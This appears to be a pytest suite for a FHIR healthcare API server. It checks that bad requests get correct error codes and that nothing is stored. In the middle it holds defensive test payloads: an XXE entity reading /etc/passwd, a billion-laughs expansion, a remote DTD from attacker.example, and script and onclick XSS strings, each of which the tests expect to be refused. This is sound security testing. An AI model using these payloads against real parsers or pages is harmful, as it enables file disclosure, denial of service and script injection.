"""Every bad request gets a clear, protocol-correct error, and nothing is stored."""

from __future__ import annotations

import threading

import orjson
import pytest

from tests.fhir.helpers import FHIR_JSON, body, expressions, outcome_codes, post, put

PATIENT = {"resourceType": "Patient", "name": [{"family": "Li"}]}


def nothing_stored(client) -> bool:
    history = body(client.get("/fhir/_history"))
    return "entry" not in history


def test_malformed_json(client):
    r = client.post("/fhir/Patient", content=b'{"resourceType": "Patient",', headers=FHIR_JSON)
    assert r.status_code == 400 and outcome_codes(r) == ["structure"]
    assert "malformed JSON" in body(r)["issue"][0]["diagnostics"]
    assert nothing_stored(client)


@pytest.mark.parametrize("payload", [b"[1, 2]", b'"text"', b"42", b'{"name": "x"}'])
def test_json_that_is_not_a_resource(client, payload):
    r = client.post("/fhir/Patient", content=payload, headers=FHIR_JSON)
    assert r.status_code == 400
    assert outcome_codes(r)[0] == "structure"
    assert nothing_stored(client)


def test_empty_body(client):
    r = client.post("/fhir/Patient", content=b"", headers=FHIR_JSON)
    assert r.status_code == 400 and nothing_stored(client)


def test_resource_type_not_matching_url(client):
    r = post(client, "/fhir/Observation", PATIENT)
    assert r.status_code == 400 and expressions(r) == ["resourceType"]
    assert nothing_stored(client)


def test_id_in_body_not_matching_url_on_put(client):
    r = put(client, "/fhir/Patient/a", {**PATIENT, "id": "b"})
    assert r.status_code == 400 and expressions(r) == ["Patient.id"]
    r = put(client, "/fhir/Patient/a", PATIENT)  # no id at all
    assert r.status_code == 400
    assert nothing_stored(client)


def test_unknown_resource_type(client):
    r = client.get("/fhir/Spaceship/1")
    assert r.status_code == 404 and outcome_codes(r) == ["not-supported"]
    r = post(client, "/fhir/Spaceship", {"resourceType": "Spaceship"})
    assert r.status_code == 404
    assert nothing_stored(client)


@pytest.mark.parametrize("bad_id", ["has space", "x" * 65, "semi;colon", "ü"])
def test_invalid_id(client, bad_id):
    r = put(client, f"/fhir/Patient/{bad_id}", {**PATIENT, "id": bad_id})
    assert r.status_code == 400
    assert nothing_stored(client)


def test_invalid_content_names_the_element(client):
    bad = {"resourceType": "Patient", "birthDate": "1990-13-45", "name": [{"given": "notalist"}],
           "gender": "robot", "flavour": "vanilla"}
    r = post(client, "/fhir/Patient", bad)
    assert r.status_code == 400
    found = expressions(r)
    assert "Patient.birthDate" in found
    assert "Patient.name[0].given" in found
    assert "Patient.flavour" in found
    assert nothing_stored(client)
    r = post(client, "/fhir/Patient", {"resourceType": "Patient", "gender": "robot"})
    assert r.status_code == 400 and expressions(r) == ["Patient.gender"]
    r = post(client, "/fhir/Observation", {"resourceType": "Observation", "status": "final"})
    assert r.status_code == 400 and "Observation.code" in expressions(r)
    r = post(client, "/fhir/Patient", {"resourceType": "Patient", "name": []})
    assert r.status_code == 400 and expressions(r) == ["Patient.name"]
    assert nothing_stored(client)


def test_narrative_must_be_safe_xhtml(client):
    for div in ("<div>no namespace</div>", "not xml <",
                '<div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></div>',
                '<div xmlns="http://www.w3.org/1999/xhtml"><p onclick="x()">a</p></div>'):
        r = post(client, "/fhir/Patient",
                 {**PATIENT, "text": {"status": "generated", "div": div}})
        assert r.status_code == 400, div
        assert expressions(r) == ["Patient.text.div"]
    assert nothing_stored(client)


def test_body_over_the_limit(client, settings):
    big = {**PATIENT, "name": [{"family": "x" * (settings.max_body_size + 10)}]}
    r = post(client, "/fhir/Patient", big)
    assert r.status_code == 413 and outcome_codes(r) == ["too-costly"]
    assert nothing_stored(client)


def test_chunked_body_over_the_limit(client, settings):
    def chunks():
        yield b'{"resourceType":"Patient","name":[{"family":"'
        for _ in range(settings.max_body_size // 65536 + 2):
            yield b"x" * 65536
        yield b'"}]}'

    r = client.post("/fhir/Patient", content=chunks(), headers=FHIR_JSON)
    assert r.status_code == 413
    assert nothing_stored(client)


def test_unsupported_content_type(client):
    r = client.post("/fhir/Patient", content=orjson.dumps(PATIENT),
                    headers={"Content-Type": "text/plain"})
    assert r.status_code == 415 and outcome_codes(r) == ["not-supported"]
    r = client.post("/fhir/Patient", content=orjson.dumps(PATIENT),
                    headers={"Content-Type": "application/fhir+json; fhirVersion=3.0"})
    assert r.status_code == 415
    assert nothing_stored(client)


def test_unsupported_accept(client):
    put(client, "/fhir/Patient/a", {**PATIENT, "id": "a"})
    r = client.get("/fhir/Patient/a", headers={"Accept": "application/pdf"})
    assert r.status_code == 406 and outcome_codes(r) == ["not-supported"]
    r = client.get("/fhir/Patient/a", headers={"Accept": "application/fhir+json; fhirVersion=5.0"})
    assert r.status_code == 406
    r = client.get("/fhir/Patient/a?_format=pdf")
    assert r.status_code == 406


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Patient [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Patient xmlns="http://hl7.org/fhir"><name><family value="&xxe;"/></name></Patient>"""
LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]>
<Patient xmlns="http://hl7.org/fhir"><name><family value="&lol2;"/></name></Patient>"""
REMOTE_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Patient SYSTEM "http://attacker.example/evil.dtd">
<Patient xmlns="http://hl7.org/fhir"/>"""


@pytest.mark.parametrize("payload", [XXE, LAUGHS, REMOTE_DTD])
def test_xml_with_doctype_or_entities_is_refused(client, payload):
    r = client.post("/fhir/Patient", content=payload,
                    headers={"Content-Type": "application/fhir+xml"})
    assert r.status_code == 400 and outcome_codes(r) == ["security"]
    assert b"root:" not in r.content
    assert nothing_stored(client)


def test_malformed_xml_and_unknown_xml_element(client):
    r = client.post("/fhir/Patient", content=b"<Patient xmlns='http://hl7.org/fhir'><name>",
                    headers={"Content-Type": "application/fhir+xml"})
    assert r.status_code == 400
    r = client.post("/fhir/Patient",
                    content=b"<Patient xmlns='http://hl7.org/fhir'><colour value='x'/></Patient>",
                    headers={"Content-Type": "application/fhir+xml"})
    assert r.status_code == 400 and expressions(r) == ["Patient.colour"]
    assert nothing_stored(client)


def test_patch_that_makes_the_resource_invalid(client):
    put(client, "/fhir/Patient/p", {**PATIENT, "id": "p"})
    ops = [{"op": "add", "path": "/birthDate", "value": "not-a-date"}]
    r = client.patch("/fhir/Patient/p", content=orjson.dumps(ops),
                     headers={"Content-Type": "application/json-patch+json"})
    assert r.status_code == 422 and expressions(r) == ["Patient.birthDate"]
    ops = [{"op": "replace", "path": "/id", "value": "other"}]
    r = client.patch("/fhir/Patient/p", content=orjson.dumps(ops),
                     headers={"Content-Type": "application/json-patch+json"})
    assert r.status_code == 422
    r = client.patch("/fhir/Patient/p", content=b'{"op": "oops"}',
                     headers={"Content-Type": "application/json-patch+json"})
    assert r.status_code == 400
    r = client.patch("/fhir/Patient/p", content=orjson.dumps([{"op": "test", "path": "/id",
                                                                "value": "nope"}]),
                     headers={"Content-Type": "application/json-patch+json"})
    assert r.status_code == 422
    assert client.get("/fhir/Patient/p").headers["etag"] == 'W/"1"'


def test_two_concurrent_updates_with_same_if_match(client):
    put(client, "/fhir/Patient/race", {**PATIENT, "id": "race"})
    barrier = threading.Barrier(2)
    statuses: list[int] = []

    def update(family: str) -> None:
        barrier.wait()
        r = put(client, "/fhir/Patient/race",
                {"resourceType": "Patient", "id": "race", "name": [{"family": family}]},
                **{"If-Match": 'W/"1"'})
        statuses.append(r.status_code)

    threads = [threading.Thread(target=update, args=(f,)) for f in ("A", "B")]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(statuses) == [200, 412]
    assert client.get("/fhir/Patient/race").headers["etag"] == 'W/"2"'


def test_transaction_with_one_bad_entry_stores_nothing(client):
    bundle = {"resourceType": "Bundle", "type": "transaction", "entry": [
        {"fullUrl": "urn:uuid:1", "resource": PATIENT,
         "request": {"method": "POST", "url": "Patient"}},
        {"resource": {"resourceType": "Observation", "status": "final", "code": {"text": "x"},
                      "subject": {"reference": "urn:uuid:1"}},
         "request": {"method": "POST", "url": "Observation"}},
        {"resource": {"resourceType": "Observation", "status": "final", "code": {"text": "x"},
                      "effectiveDateTime": "yesterday"},
         "request": {"method": "POST", "url": "Observation"}},
    ]}
    r = post(client, "/fhir", bundle)
    assert r.status_code == 400
    assert expressions(r) == ["Bundle.entry[2].resource.effectiveDateTime"]
    assert nothing_stored(client)
